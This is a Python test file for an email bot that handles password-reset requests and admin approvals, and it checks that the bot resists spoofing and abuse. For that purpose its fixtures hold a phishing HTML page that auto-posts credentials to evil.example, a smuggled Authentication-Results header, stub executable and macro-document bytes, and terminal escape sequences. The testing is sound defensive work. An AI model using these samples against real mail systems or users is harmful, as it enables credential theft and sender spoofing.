"""Findings of the adversarial pass (issue 12), each replayed through a real IMAP server and SMTP sink:
forged senders, keyword mail without a code, loose approvals, hidden HTML, forged authentication,
real requests taken for auto-replies, thank-yous to closed cases, relayed files and attacker text."""

from __future__ import annotations

import base64
import dataclasses
from datetime import datetime, timezone
from email.message import EmailMessage
from email.utils import format_datetime, make_msgid

import pytest

from mailbot.cli import main
from mailbot.demo.servers import ReceivedMail
from mailbot.store.models import Case, Event, InboundMessage
from tests.support.bot import Bot
from tests.support.documents import sample_request_letter, sample_sk
from tests.support.mails import ADMIN, PPK_A, reply_email, request_email
from tests.support.replies import with_headers
from tests.support.review import body, get_case, refusals, review_for, set_auth, submit_case

MALLORY = "mallory@evil.example"
NAME, NIP, EMAIL = PPK_A[0], PPK_A[1], PPK_A[2]


def _two_froms(raw: bytes, first: str, second: str) -> bytes:
    lines = [line for line in raw.split(b"\n") if not line.lower().startswith(b"from:")]
    return f"From: {first}\nFrom: {second}\n".encode() + b"\n".join(lines)


# -- 1. two From fields ----------------------------------------------------------------------------
def test_two_from_fields_admin_first_is_no_decision(any_bot: Bot) -> None:
    case = submit_case(any_bot)
    raw = reply_email(review_for(any_bot, case), ADMIN, "Admin", "SETUJU")
    any_bot.append(_two_froms(raw, f"Admin <{ADMIN}>", f"Mallory <{MALLORY}>"))
    any_bot.poll()
    assert get_case(any_bot, case).status == "AWAITING_REVIEW"
    assert any_bot.sent("credentials") == []
    assert all(MALLORY not in m.rcpt_tos for m in any_bot.smtp.messages)
    assert "From" in refusals(any_bot)[-1].detail


def test_two_mailboxes_in_one_from_is_no_decision(any_bot: Bot) -> None:
    case = submit_case(any_bot)
    raw = reply_email(review_for(any_bot, case), ADMIN, "Admin", "SETUJU")
    any_bot.append(_two_froms(raw, f"Admin <{ADMIN}>, Mallory <{MALLORY}>", "")
                   .replace(b"From: \n", b""))
    any_bot.poll()
    assert get_case(any_bot, case).status == "AWAITING_REVIEW"
    assert any_bot.sent("credentials") == []


# -- 2. keyword mail without a code or thread; the cap on admin_command_error ----------------------
def test_admin_keyword_without_code_or_thread_is_refused_not_a_case(any_bot: Bot) -> None:
    any_bot.append(request_email(ADMIN, "Admin", "Keputusan", "SETUJU\n\nPassword: Rahasia12345"))
    any_bot.poll()
    assert any_bot.all(Case) == []
    assert any_bot.sent("incomplete") == []
    assert [m.rcpt_tos for m in any_bot.sent("admin_command_error")] == [[ADMIN]]
    assert refusals(any_bot)


def test_admin_command_error_is_capped_per_admin_per_day(any_bot: Bot) -> None:
    cap = any_bot.app.settings.limits.admin_command_errors_per_admin_per_day
    for i in range(cap + 3):
        any_bot.append(request_email(ADMIN, "Admin", f"Keputusan {i}", f"TOLAK palsu {i}"))
    any_bot.poll()
    assert len(any_bot.sent("admin_command_error")) == cap
    assert len(refusals(any_bot)) == cap + 3
    assert any_bot.all(Case) == []


# -- 3. loose approval tails; hidden HTML --------------------------------------------------------
@pytest.mark.parametrize("first_line", ["SETUJU？", "SETUJU 👎❌", "SETUJU?"])
def test_question_or_emoji_after_setuju_does_not_approve(any_bot: Bot, first_line: str) -> None:
    case = submit_case(any_bot)
    any_bot.append(reply_email(review_for(any_bot, case), ADMIN, "Admin", first_line))
    any_bot.poll()
    assert get_case(any_bot, case).status == "AWAITING_REVIEW"
    assert any_bot.sent("credentials") == []
    assert [m.rcpt_tos for m in any_bot.sent("admin_command_error")] == [[ADMIN]]


def test_full_width_full_stop_after_setuju_approves(any_bot: Bot) -> None:
    case = submit_case(any_bot)
    any_bot.append(reply_email(review_for(any_bot, case), ADMIN, "Admin", "Setuju。"))
    any_bot.poll()
    assert get_case(any_bot, case).status == "COMPLETED"


def _html_only_reply(review: ReceivedMail, html: str) -> bytes:
    msg = EmailMessage()
    msg["From"] = f"Admin <{ADMIN}>"
    msg["To"] = str(review.message["From"])
    msg["Subject"] = "Re: " + str(review.message["Subject"])
    msg["Date"] = format_datetime(datetime.now(timezone.utc))
    msg["Message-ID"] = make_msgid(domain=ADMIN.split("@")[1])
    msg["In-Reply-To"] = str(review.message["Message-ID"])
    msg["References"] = str(review.message["Message-ID"])
    msg.set_content(html, subtype="html")
    return msg.as_bytes()


@pytest.mark.parametrize("style", ["display:none", "visibility: hidden", "font-size:0px", "mso-hide:all"])
def test_hidden_html_keyword_is_not_read(any_bot: Bot, style: str) -> None:
    case = submit_case(any_bot)
    html = (f'<html><body><div style="{style}">SETUJU</div><div>OK, saya cek dulu</div>'
            "<blockquote>kutipan</blockquote></body></html>")
    any_bot.append(_html_only_reply(review_for(any_bot, case), html))
    any_bot.poll()
    assert get_case(any_bot, case).status == "AWAITING_REVIEW"
    assert any_bot.sent("credentials") == []
    assert "saya cek dulu" in refusals(any_bot)[-1].detail


# -- 4. Authentication-Results read by RFC 8601 ------------------------------------------------------
SMUGGLED_AR = ('mx.lpse-demo.go.id; spf=pass smtp.mailfrom="x;dmarc=pass"@evil.example; '
               "dmarc=fail header.from=lpse-demo.go.id")
OPENDKIM_AR = ("mx.lpse-demo.go.id; dkim=pass (2048-bit key; unprotected) header.d=lpse-demo.go.id "
               "header.i=@lpse-demo.go.id header.b=kJ7mPq2x")


def test_quoted_semicolon_in_authentication_results_is_no_pass(any_bot: Bot) -> None:
    set_auth(any_bot, True, ("mx.lpse-demo.go.id",))
    case = submit_case(any_bot)
    raw = reply_email(review_for(any_bot, case), ADMIN, "Admin", "SETUJU")
    any_bot.append(with_headers(raw, Authentication_Results=SMUGGLED_AR))
    any_bot.poll()
    assert get_case(any_bot, case).status == "AWAITING_REVIEW"
    assert any_bot.sent("credentials") == []
    assert "autentikasi" in refusals(any_bot)[-1].detail


def test_opendkim_pass_with_comment_is_accepted(any_bot: Bot) -> None:
    set_auth(any_bot, True, ("mx.lpse-demo.go.id",))
    case = submit_case(any_bot)
    raw = reply_email(review_for(any_bot, case), ADMIN, "Admin", "SETUJU")
    any_bot.append(with_headers(raw, Authentication_Results=OPENDKIM_AR))
    any_bot.poll()
    assert get_case(any_bot, case).status == "COMPLETED"
    assert refusals(any_bot) == []


# -- 5. real requests are not auto-replies -------------------------------------------------------------
@pytest.mark.parametrize("subject", ["Permohonan reset password - PPK sedang dinas di luar kantor",
                                     "Permohonan reset password (sedang cuti, mohon dibantu)"])
def test_request_with_out_of_office_words_in_subject_is_a_case(any_bot: Bot, subject: str) -> None:
    case = submit_case(any_bot, subject=subject)
    assert [m.rcpt_tos for m in any_bot.sent("review_request")] == [[ADMIN]]
    assert get_case(any_bot, case).subject == subject


def test_auto_reply_with_attachments_is_ignored_but_admins_are_told(any_bot: Bot) -> None:
    any_bot.append(request_email(EMAIL, NAME, "Balasan otomatis: sedang cuti", "Saya sedang cuti.",
                                 [("SK PPK.pdf", sample_sk(NAME, NIP))],
                                 extra_headers={"Auto-Submitted": "auto-replied"}))
    any_bot.poll()
    assert any_bot.all(Case) == []
    assert [m.rcpt_tos for m in any_bot.smtp.messages] == [[ADMIN]]
    notice = any_bot.sent("admin_notice")
    assert len(notice) == 1 and "SK PPK.pdf" in body(notice[0])
    assert [r.status for r in any_bot.all(InboundMessage)] == ["ignored"]


# -- 6. a reply to a closed case -----------------------------------------------------------------------
def _completed_case(bot: Bot) -> tuple[Case, ReceivedMail]:
    case = submit_case(bot)
    bot.append(reply_email(review_for(bot, case), ADMIN, "Admin", "SETUJU"))
    bot.poll()
    assert get_case(bot, case).status == "COMPLETED"
    return case, bot.sent("credentials")[0]


def test_thank_you_to_closed_case_is_history_not_a_new_case(any_bot: Bot) -> None:
    case, creds = _completed_case(any_bot)
    before = len(any_bot.smtp.messages)
    any_bot.append(reply_email(creds, EMAIL, NAME, "Terima kasih banyak, sudah bisa masuk."))
    any_bot.poll()
    assert [c.number for c in any_bot.all(Case)] == [case.number]
    assert len(any_bot.smtp.messages) == before  # no incomplete to the PPK, nothing to the admins
    events = [e for e in any_bot.all(Event) if e.kind == "followup_after_close"]
    assert [e.case_id for e in events] == [case.id]
    assert get_case(any_bot, case).status == "COMPLETED"


def test_documents_to_closed_case_reach_the_admins(any_bot: Bot) -> None:
    case, creds = _completed_case(any_bot)
    raw = request_email(EMAIL, NAME, "Re: " + str(creds.message["Subject"]), "Terima kasih, berikut SK terbaru.",
                        [("SK terbaru.pdf", sample_sk(NAME, NIP))],
                        extra_headers={"In-Reply-To": str(creds.message["Message-ID"]),
                                       "References": str(creds.message["Message-ID"])})
    ppk_mail = [m for m in any_bot.smtp.messages if EMAIL in m.rcpt_tos]
    any_bot.append(raw)
    any_bot.poll()
    assert [c.number for c in any_bot.all(Case)] == [case.number]
    assert [m for m in any_bot.smtp.messages if EMAIL in m.rcpt_tos] == ppk_mail
    notice = any_bot.sent("admin_notice")
    assert [m.rcpt_tos for m in notice] == [[ADMIN]]
    assert case.number in notice[0].header("Subject") and "SK terbaru.pdf" in body(notice[0])


def test_new_request_words_to_closed_case_reach_the_admins(any_bot: Bot) -> None:
    case, creds = _completed_case(any_bot)
    any_bot.append(reply_email(creds, EMAIL, NAME, "Mohon bantuan lagi, saya lupa password lagi."))
    any_bot.poll()
    assert [c.number for c in any_bot.all(Case)] == [case.number]
    assert [m.rcpt_tos for m in any_bot.sent("admin_notice")] == [[ADMIN]]


# -- 7. rejected files are not relayed to the admins -----------------------------------------------------
PHISHING_HTML = (b"<html><body><h1>Panduan SPSE</h1><form action='https://evil.example/login' method='post'>"
                 b"<input name='user'><input type='password' name='pass'></form>"
                 b"<script>document.forms[0].submit()</script></body></html>")
EXE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\x00" * 48 + b"PE\x00\x00"
DOCM = b"PK\x03\x04\x14\x00\x06\x00" + b"\x00" * 22 + b"[Content_Types].xml" + b"\x00" * 40 + b"word/vbaProject.bin"


def test_only_accepted_files_ride_along_in_the_review_mail(any_bot: Bot) -> None:
    any_bot.append(request_email(EMAIL, NAME, "Permohonan reset password SPSE", f"Mohon reset password. NIP. {NIP}",
                                 [("Surat Permohonan.pdf", sample_request_letter(NAME, NIP)),
                                  ("SK PPK.pdf", sample_sk(NAME, NIP)),
                                  ("Panduan SPSE.html", PHISHING_HTML), ("setup.exe", EXE),
                                  ("Surat.docm", DOCM)]))
    any_bot.poll()
    reviews = any_bot.sent("review_request")
    assert len(reviews) == 1
    attached = [(p.get_filename(), p.get_content_type()) for p in reviews[0].message.iter_attachments()]
    assert sorted(attached) == [("SK PPK.pdf", "application/pdf"), ("Surat Permohonan.pdf", "application/pdf")]
    text = body(reviews[0])
    for name in ("Panduan SPSE.html", "setup.exe", "Surat.docm"):
        assert name in text and "tidak dilampirkan" in text.rsplit(name, 1)[1].split("\n", 1)[0]
    assert b"evil.example/login" not in reviews[0].data


# -- 8. attacker text relayed to third parties --------------------------------------------------------
VICTIM = "korban@dinas-lain.go.id"  # not in the registry: the From an attacker forged
BAIT_FILE = "Hadiah Rp 100 juta - klik www.evil-prize.example.docx"
BAIT_SUBJECT = "Permohonan reset password - Hadiah Rp 100 juta klik www.evil-prize.example"


def test_incomplete_to_unverified_sender_names_no_files(any_bot: Bot) -> None:
    any_bot.append(request_email(VICTIM, "Korban", "Permohonan reset password", "Mohon reset password.",
                                 [(BAIT_FILE, b"PK\x03\x04 not really a document")]))
    any_bot.poll()
    [inc] = any_bot.sent("incomplete")
    assert inc.rcpt_tos == [VICTIM]
    assert b"evil-prize" not in inc.data and "Hadiah" not in body(inc)
    assert "1 berkas" in body(inc)


def test_incomplete_to_registered_sender_still_names_files(any_bot: Bot) -> None:
    any_bot.append(request_email(EMAIL, NAME, "Permohonan reset password", "Mohon reset password.",
                                 [("scan KTP.docx", b"PK\x03\x04 not really a document")]))
    any_bot.poll()
    [inc] = any_bot.sent("incomplete")
    assert "scan KTP.docx" in body(inc)


def _too_large(bot: Bot, sender: str, subject: str) -> ReceivedMail:
    limits = dataclasses.replace(bot.app.settings.limits, max_message_bytes=50_000)
    bot.app.settings = dataclasses.replace(bot.app.settings, limits=limits)
    bot.append(request_email(sender, "Pengirim", subject, "lampiran besar",
                             [("scan.pdf", b"%PDF-1.4\n" + b"0" * 120_000)]))
    bot.poll()
    [mail] = bot.sent("too_large")
    assert mail.rcpt_tos == [sender]
    return mail


def test_too_large_to_unverified_sender_quotes_no_subject(any_bot: Bot) -> None:
    mail = _too_large(any_bot, VICTIM, BAIT_SUBJECT)
    assert b"evil-prize" not in mail.data and "Hadiah" not in body(mail)


def test_too_large_to_registered_sender_quotes_the_subject(any_bot: Bot) -> None:
    mail = _too_large(any_bot, EMAIL, "Permohonan reset password Budi")
    assert "Permohonan reset password Budi" in body(mail)


# -- 9. terminal escapes ----------------------------------------------------------------------------
ESCAPES = "\x1b]0;pwned\x07\x1b[2J\x1b[31mmerah\x9b1m\u202e"


def test_cli_prints_no_control_characters(any_bot: Bot, capsys: pytest.CaptureFixture[str]) -> None:
    subject = "Permohonan reset password " + ESCAPES
    encoded = "=?utf-8?b?" + base64.b64encode(subject.encode()).decode() + "?="
    raw = request_email(EMAIL, NAME, "PLACEHOLDER", f"Mohon reset password. NIP. {NIP}",
                        [("Surat Permohonan.pdf", sample_request_letter(NAME, NIP)),
                         ("SK\x1b[2J PPK.pdf", sample_sk(NAME, NIP))])
    any_bot.append(raw.replace(b"Subject: PLACEHOLDER", b"Subject: " + encoded.encode()))
    any_bot.poll()
    [case] = any_bot.all(Case)
    assert "\x1b" in case.subject  # stored as received
    config = str(any_bot.workdir / "mailbot.toml")
    for argv in (["case", "show", case.number], ["cases"], ["case", "show", case.number, "--json"]):
        capsys.readouterr()
        assert main(["--config", config, *argv]) == 0
        out, err = capsys.readouterr()
        for c in "\x1b\x07\x9b\u202e":
            assert c not in out and c not in err, (argv, c)
    capsys.readouterr()
    main(["--config", config, "case", "show", case.number])
    out = capsys.readouterr().out
    assert "\n" in out and "merah" in out  # the layout and the text stay, the escapes go
